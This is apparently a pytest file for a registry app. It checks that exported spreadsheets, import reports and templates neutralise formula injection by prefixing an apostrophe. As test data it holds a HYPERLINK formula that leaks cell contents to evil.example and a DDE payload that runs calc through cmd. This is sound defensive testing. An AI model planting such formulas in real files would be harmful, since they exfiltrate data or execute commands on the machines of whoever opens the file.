"""Every spreadsheet and CSV file the app writes neutralises text a spreadsheet would run as a
formula (``=``, ``+``, ``-``, ``@``, a leading tab or carriage return): the import's row-by-row
report, the import templates (the coverage workbook: ``tests/coverage/test_pages_and_exports.py``).
Numbers stay numbers."""

from __future__ import annotations

import csv
import io
from datetime import date
from io import BytesIO
from pathlib import Path

import polars as pl
import pytest
from openpyxl import load_workbook

from jamsostek.core.spreadsheet import FORMULA_STARTS, safe_cell, safe_column, safe_row
from jamsostek.registry.selectors import IMPORT_KINDS, import_template
from jamsostek.registry.services import import_file
from tests.conftest import Personas

LINK = '=HYPERLINK("http://evil.example/?leak="&A1,"Klik di sini")'
SUM = "@SUM(1+1)*cmd|' /C calc'!A0"


@pytest.mark.parametrize("text", [LINK, SUM, "+62 812", "-2+3", "\t=1", "\r=1", "\uff1d1+1"])
def test_text_a_spreadsheet_would_run_gets_an_apostrophe(text: str) -> None:
    assert safe_cell(text) == "'" + text
    assert pl.DataFrame({"cell": [text]}).select(safe_column(pl.col("cell"))).item() == "'" + text


def test_other_cells_are_left_as_they_are() -> None:
    values = ["Siti Aminah", "a=b", "", None, 5_000_000, -12, 33.5, date(2025, 3, 1), "'already"]
    assert safe_row(values) == values
    assert set(FORMULA_STARTS) >= {"=", "+", "-", "@", "\t", "\r"}


def test_the_import_report_neutralises_what_the_file_brought(personas: Personas, tmp_path: Path) -> None:
    persons = tmp_path / "persons.csv"
    persons.write_text(f'nik,name,birth_date,sex,district_code\n6104015708900009,"{LINK.replace(chr(34), 2 * chr(34))}"'
                       ",=1+2,P,61.04.01\n", "utf-8")  # fmt: skip
    employers = tmp_path / "employers.csv"
    employers.write_text("npp,name,kind,kbli,risk_class,size_class,region_code\n@SUM(A1),PT Contoh,company,,1,small,"
                         "61.04.01\n", "utf-8")  # fmt: skip
    rows = []
    for kind, path in (("persons", persons), ("employers", employers)):
        report_path = tmp_path / f"report-{kind}.csv"
        report = import_file(actor=personas.ketapang, kind=kind, path=path, reason="test", report_path=report_path)
        assert report.rejected == 1
        rows += list(csv.reader(io.StringIO(report_path.read_text("utf-8"))))[1:]
    (person_row, employer_row) = rows
    assert person_row[3:5] == ["birth_date", "'=1+2 bukan tanggal; tulis sebagai YYYY-MM-DD atau DD-MM-YYYY"]
    assert employer_row[1] == "'@SUM(A1)"
    assert not [cell for row in rows for cell in row if cell.startswith(FORMULA_STARTS)]


def test_the_templates_hold_no_formula(db: None) -> None:
    for kind in IMPORT_KINDS:
        text = import_template(kind, "csv").decode("utf-8")
        assert not [cell for row in csv.reader(io.StringIO(text)) for cell in row if cell.startswith(FORMULA_STARTS)]
        book = load_workbook(BytesIO(import_template(kind, "xlsx")))
        assert not [cell for sheet in book.worksheets for row in sheet.iter_rows() for cell in row
                    if cell.data_type == "f"]  # fmt: skip
